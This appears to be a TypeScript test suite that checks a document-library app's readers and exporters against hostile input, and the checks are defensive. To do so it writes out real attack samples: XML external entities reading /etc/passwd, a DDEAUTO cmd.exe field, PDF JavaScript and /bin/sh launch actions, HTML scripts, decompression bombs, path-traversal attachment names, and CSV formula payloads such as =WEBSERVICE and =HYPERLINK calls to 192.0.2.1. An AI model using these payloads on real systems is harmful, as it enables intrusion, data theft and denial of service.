import { deflateSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { afterAll, describe, expect, test } from 'vitest';
import { readForLibrary } from '../../src/main/documents/read-for-library';
import { patchCsv } from '../../src/main/formats/csv-patch';
import { readMail } from '../../src/main/formats/mail-read';
import { writeWorkbook } from '../../src/main/formats/xlsx-write';
import { recogniseQuestionnaire } from '../../src/main/questionnaires/recognise-questionnaire';
import { AppError } from '../../src/shared/errors';
import { findDisguised, shownFileName } from '../../src/shared/hidden-characters';
import { createLibrary, textFile } from '../app/library';
import { computedMs } from '../builders/computing-time';
import { buildDocx, paragraph } from '../builders/docx';

// What an attacker sends as a document: it is read without doing what it says, or refused in one sentence.
const NOW = '2026-11-20T09:00:00.000Z';
const SAID = 'Backups are encrypted with AES-256.';
const library = createLibrary();
afterAll(() => library.app.close());

describe('Word', () => {
  const good = buildDocx({ body: paragraph(SAID) });

  test.each([
    ['a part of zeros', { 'word/document.xml': new Uint8Array(150_000_000) }],
    ['a document of one sentence a hundred million times', { 'word/document.xml': xml(' '.repeat(120_000_000)) }],
    ['entities that unfold', { 'word/document.xml': `<!DOCTYPE a [${laughs()}]>${xml('&i;')}` }],
    ['an entity from a file of this machine', { 'word/document.xml': external('file:///etc/passwd') }],
    ['an entity from an address', { 'word/document.xml': external('http://192.0.2.1/a') }],
    ['elements a hundred thousand deep', { 'word/document.xml': xml('<w:sdt><w:sdtContent>'.repeat(100_000)) }],
    ['tables in tables in tables', { 'word/document.xml': xml('<w:tbl><w:tr><w:tc>'.repeat(30_000)) }],
  ])('%s: refused in one sentence, or read without it', { timeout: 300_000 }, async (_, parts) => {
    const text = await textOf('a.docx', zipOf(parts));
    expect(text).not.toMatch(/root:|lol|[ ]{1000}/u);
  });

  test('what it would fetch or run is not looked at', async () => {
    const relations =
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://192.0.2.1/evil.dotm" TargetMode="External"/><Relationship Id="rId10" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>';
    const field =
      '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
    const bytes = zipOf({
      'word/document.xml': xml(`${paragraph(SAID)}${field}`),
      'word/_rels/document.xml.rels': relations,
      'word/vbaProject.bin': 'x',
    });
    expect(await textOf('a.docx', bytes)).toBe(SAID);
  });

  test('a document inside a document stays closed', async () => {
    const inner = zipOf({ 'word/document.xml': xml(paragraph('Hidden inside.')) });
    expect(
      await textOf('a.docx', zipOf({ 'word/document.xml': xml(paragraph(SAID)), 'word/embeddings/a.docx': inner })),
    ).toBe(SAID);
    expect(good.length).toBeGreaterThan(100);
  });
});

describe('PDF', () => {
  test('scripts, a program to start, an attachment and a form that sends itself are not looked at', async () => {
    const text = await textOf(
      'a.pdf',
      pdf({
        catalog:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (/bin/sh) >> >> /Names << /EmbeddedFiles << /Names [(evil.exe) << /Type /Filespec /F (evil.exe) /EF << /F 6 0 R >> >>] >> /JavaScript << /Names [(a) << /S /JavaScript /JS (this.submitForm\\("http://192.0.2.1"\\)) >>] >> >>',
        more: ['<< /Type /EmbeddedFile /Length 9 >>\nstream\nHidden in\nendstream'],
      }),
    );
    expect(text).toBe(SAID);
  });

  test.each([
    ['a page tree that holds itself', pdf({ kids: '[2 0 R 3 0 R]' })],
    ['a page tree of a loop of two', pdf({ kids: '[6 0 R]', more: ['<< /Type /Pages /Count 1 /Kids [2 0 R] >>'] })],
    ['a page count of two thousand million', pdf({ count: 2_147_483_647 })],
    ['a negative page count', pdf({ count: -5 })],
    ['a stream that unpacks to far more than it holds', pdf({ content: bombStream() })],
    [
      'drawings that draw themselves',
      pdf({
        content: stream('/X Do'),
        resources: '/XObject << /X 6 0 R >>',
        more: [
          '<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 5 >>\nstream\n/X Do\nendstream',
        ],
      }),
    ],
    ['a directory that leads to itself', pdf({ trailer: '/Prev 0' })],
    ['arrays a hundred thousand deep', pdf({ catalog: `/A ${'['.repeat(100_000)}` })],
    [
      'a picture of a million million points',
      pdf({
        content: stream('/X Do'),
        resources: '/XObject << /X 6 0 R >>',
        more: [
          '<< /Type /XObject /Subtype /Image /Width 1000000 /Height 1000000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Length 1 >>\nstream\na\nendstream',
        ],
      }),
    ],
  ])('%s: refused in one sentence, or read without it', { timeout: 300_000 }, async (_, bytes) => {
    expect(await textOf('a.pdf', bytes)).toMatch(/^(?:|Backups are encrypted with AES-256\.)$/u);
  });
});

describe('HTML and Markdown', () => {
  test('scripts, frames, styles, remote pictures and forms leave no word and call nobody', async () => {
    const html = `<html><head><script>document.write("Evil")</script><style>p{background:url(http://192.0.2.1/a)}</style><meta http-equiv="refresh" content="0;url=http://192.0.2.1/"><base href="http://192.0.2.1/"></head><body onload="evil()"><p>${SAID}</p><img src="http://192.0.2.1/a.png" onerror="evil()"><iframe src="file:///etc/passwd">Evil</iframe><object data="http://192.0.2.1/b">Evil</object><template><p>Evil</p></template><svg><script>evil()</script></svg><noscript><p>Evil</p></noscript></body></html>`;
    expect(await textOf('a.html', html)).toBe(SAID);
    expect(await textOf('a.md', `${SAID}\n\n<script>Evil</script>\n\n![](http://192.0.2.1/a.png)\n`)).toBe(SAID);
  });

  test.each([
    ['elements a hundred thousand deep', '<div>'.repeat(100_000)],
    ['lists in lists', '<ul><li>'.repeat(50_000)],
    ['tables in tables', '<table><tr><td>'.repeat(20_000)],
    [
      'a cell over a million columns',
      '<table><tr><td colspan="1000000" rowspan="1000000">a</td></tr></table>'.repeat(50),
    ],
    ['a million attributes', `<p ${'a '.repeat(300_000)}>`],
    ['quotes in quotes', '> '.repeat(50_000)],
    ['brackets that never close', '['.repeat(50_000)],
    ['emphasis that never ends', '**a '.repeat(50_000)],
  ])('%s: refused in one sentence, or read in time', { timeout: 300_000 }, async (_, text) => {
    const startedAt = computedMs();
    for (const ending of ['html', 'md']) await textOf(`a.${ending}`, `${text} ${SAID}`);
    expect(computedMs() - startedAt).toBeLessThan(20_000);
  });
});

describe('texts that make a reader slow', () => {
  // Each takes seconds at this length where a rule reads it again from every character.
  test.each(['–', '...', ': ', '{{', '`', 'é', '(', '"', '- ', 'wird nicht ', 'A\n=\n', 'a\n\n', 'ab'])(
    'two hundred thousand characters of “%s” are read in time, and the sentence among them is found',
    { timeout: 300_000 },
    async (piece) => {
      const startedAt = computedMs();
      const text = `${SAID}\n\n${piece.repeat(Math.ceil(200_000 / piece.length))}\n\nThe gate is locked at night.\n`;
      const [imported] = await library.run('documents.import', { files: [textFile(`${startedAt}.txt`, text)] });
      expect(imported?.outcome).toBe('imported');
      expect(computedMs() - startedAt).toBeLessThan(20_000);
    },
  );
});

describe('mail', () => {
  test('parts in parts in parts, attachments with paths and borders that lie are read without them', () => {
    const nested = Array.from(
      { length: 2000 },
      (_, at) => `Content-Type: multipart/mixed; boundary=b${at}\n\n--b${at}\n`,
    ).join('');
    expect(readMail(bytesOf(nested)).text).toBe('');
    const many = `Content-Type: multipart/mixed; boundary=b\n\n${'--b\nContent-Type: text/plain\n\na\n'.repeat(100_000)}`;
    expect(readMail(bytesOf(many)).text.length).toBeLessThan(2000);
    const mail = readMail(
      bytesOf(
        `Subject: =?utf-8?B?${Buffer.from('Report\u202Exslx.exe').toString('base64')}?=\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/plain\n\n${SAID}\n--b\nContent-Disposition: attachment; filename="../../etc/cron.d/a"\n\nx\n--b\nContent-Type: message/rfc822\n\nSubject: inner\n\nInner text.\n--b--\n`,
      ),
    );
    expect(mail).toMatchObject({ subject: 'Report[U+202E]xslx.exe', text: SAID });
    expect(mail.attachments[0]).toBe('a');
  });
});

describe('letters that are not what they look like', () => {
  test('are named where they turn, hide or replace others, and left where they belong', () => {
    expect(findDisguised('Data is not \u202Edetpyrcne\u202C.')).toEqual(['[U+202E]', '[U+202C]']);
    expect(findDisguised('Data is \u0435ncrypted with \u0410ES.')).toEqual(['[U+0435]ncrypted', '[U+0410]ES']);
    expect(findDisguised('Naïve façade, Straße, Москва, Αθήνα, 5 μm, µs, AES‑256, 😀 👩‍👩‍👧')).toEqual([]);
  });

  test('stand named in passages, questions and file names, and are told by check', async () => {
    const file = textFile(
      'ab/../..\\pol\u202Eicy\n.txt',
      `${SAID} Data is \u202Edetpyrcne\u202C at rest. Keys are r\u043Etated yearly.\n\u001B[31mRed\u001B[0m is logged.\n`,
    );
    const [imported] = await library.run('documents.import', { files: [file] });
    expect(imported?.fileName).toBe('pol[U+202E]icy .txt');
    const { passages } = await library.run('documents.read', { documentId: imported?.documentId });
    const text = passages.map((passage) => passage.text).join(' ');
    expect(text).toContain('Data is [U+202E]detpyrcne[U+202C] at rest.');
    expect(text).toContain('[U+001B][31mRed');
    const { questions } = await recogniseQuestionnaire(
      textFile('q.csv', 'ID;Question;Answer\n1;Is data \u202Edetpyrcne\u202C?;\n2;Is it tested?;\n'),
    );
    expect(questions[0]?.text).toBe('Is data [U+202E]detpyrcne[U+202C]?');
    const { findings } = await library.run('library.check');
    const told = findings.filter(({ topic }) => topic === 'disguised').map(({ message }) => message);
    expect(told.join('\n')).toContain('[U+202E]');
    expect(told.join('\n')).toContain('r[U+043E]tated');
  });

  test.each([
    ['/etc/passwd', 'passwd'],
    ['..\\..\\a.pdf', 'a.pdf'],
    ['../', 'unnamed'],
    ['..', 'unnamed'],
    ['a\u0000.pdf', 'a[U+0000].pdf'],
    ['a\nb.pdf', 'a b.pdf'],
    ['invoice\u202Efdp.exe', 'invoice[U+202E]fdp.exe'],
    ['Bericht “Größe” 2026.docx', 'Bericht “Größe” 2026.docx'],
  ])('the name %j is kept as %j', (name, shown) => {
    expect(shownFileName(name)).toBe(shown);
  });

  test('hold back an export until somebody has looked', async () => {
    const check = await library.run('exports.check', { kind: 'whitepaper' });
    const found = check.findings.filter(({ rule }) => rule === 'disguised');
    expect(found.length).toBeGreaterThan(0);
    expect(found.every(({ severity }) => severity === 'blocking')).toBe(true);
  });
});

describe('formulas on their way out', () => {
  const FORMULAS = [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u200B=1',
    '＝1+1',
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://192.0.2.1?"&A1)',
    '-cmd|x',
    '=WEBSERVICE("http://192.0.2.1")',
  ];

  test.each(FORMULAS)('%j written into a CSV file stays a text', (text) => {
    const file = textFile('q.csv', 'ID;Question;Answer\n1;Is it?;\n');
    const written = new TextDecoder().decode(patchCsv(file, [{ sheet: '', cell: 'C2', text }]).bytes);
    const field = written.split('\n').slice(1).join('\n').replace('1;Is it?;', '');
    expect(field).toMatch(/^"?'/u);
  });

  test('numbers and plain sentences stay as they are', () => {
    for (const text of ['-5', '+3.5', 'Yes – always', 'a=b']) {
      const written = patchCsv(textFile('q.csv', 'A;B\n1;\n'), [{ sheet: '', cell: 'B2', text }]).bytes;
      expect(new TextDecoder().decode(written)).toContain(`1;${text}`);
    }
  });

  test('written into a workbook of ours they are texts, kept as such when a person edits them', async () => {
    const bytes = writeWorkbook(
      [{ name: 'A', columns: [{ title: 'T', width: 20 }], rows: FORMULAS.map((text) => [text]) }],
      { title: 'T', subject: '', author: '', keywords: [], language: 'en', date: NOW, footer: '' },
    );
    const { unzipSync, strFromU8 } = await import('fflate');
    const parts = unzipSync(bytes);
    const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
    expect(sheet).not.toMatch(/<f[ >]/u);
    expect(sheet.match(/<c r="A\d+"[^>]*t="(?:s|inlineStr)"/gu)?.length).toBe(FORMULAS.length + 1);
    expect(strFromU8(parts['xl/styles.xml'] ?? new Uint8Array())).toContain('quotePrefix="1"');
  });
});

/** The text that was read; empty where the file was refused, in one sentence. Anything else fails. */
async function textOf(name: string, content: string | Uint8Array): Promise<string> {
  const bytes = typeof content === 'string' ? bytesOf(content) : content;
  try {
    return (await readForLibrary({ name, bytes })).passages.map(({ text }) => text).join('\n');
  } catch (error) {
    if (!(error instanceof AppError)) throw error;
    expect(error.message).toMatch(/^[^\n]{10,300}\.$/u);
    return '';
  }
}

function bytesOf(text: string): Uint8Array {
  return new TextEncoder().encode(text);
}

function zipOf(parts: Record<string, string | Uint8Array>): Uint8Array {
  const types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>';
  const all = { '[Content_Types].xml': types, ...parts };
  return zipSync(
    Object.fromEntries(
      Object.entries(all).map(([name, part]) => [name, typeof part === 'string' ? bytesOf(part) : part]),
    ),
  );
}

function xml(body: string): string {
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}</w:body></w:document>`;
}

function laughs(): string {
  const names = 'abcdefghi';
  return `<!ENTITY a "lol">${Array.from(names.slice(1), (name, at) => `<!ENTITY ${name} "${`&${names[at]};`.repeat(10)}">`).join('')}`;
}

function external(address: string): string {
  return `<!DOCTYPE a [<!ENTITY e SYSTEM "${address}">]>${xml(paragraph('&e;'))}`;
}

interface PdfParts {
  catalog?: string;
  kids?: string;
  count?: number;
  content?: string;
  resources?: string;
  trailer?: string;
  more?: string[];
}

/** A PDF of one page by hand: 1 catalog, 2 page tree, 3 page, 4 content, 5 font, 6 and on what is added. */
function pdf(parts: PdfParts): Uint8Array {
  const { catalog = '', kids = '[3 0 R]', count = 1, resources = '', trailer = '', more = [] } = parts;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    `<< /Type /Pages /Count ${count} /Kids ${kids} >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> ${resources} >> >>`,
    parts.content ?? stream(`BT /F1 11 Tf 1 0 0 1 60 700 Tm (${SAID}) Tj ET`),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    ...more,
  ];
  let file = '%PDF-1.4\n';
  const offsets = objects.map((body, index) => {
    const offset = file.length;
    file += `${index + 1} 0 obj\n${body}\nendobj\n`;
    return offset;
  });
  const table = file.length;
  file += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  file += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer.replace('/Prev 0', `/Prev ${table}`)} >>\nstartxref\n${table}\n%%EOF\n`;
  return new Uint8Array(Buffer.from(file, 'latin1'));
}

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** A quarter of a gigabyte of blanks in a quarter of a megabyte. */
function bombStream(): string {
  const packed = deflateSync(Buffer.alloc(250_000_000, ' ')).toString('latin1');
  return `<< /Length ${packed.length} /Filter /FlateDecode >>\nstream\n${packed}\nendstream`;
}
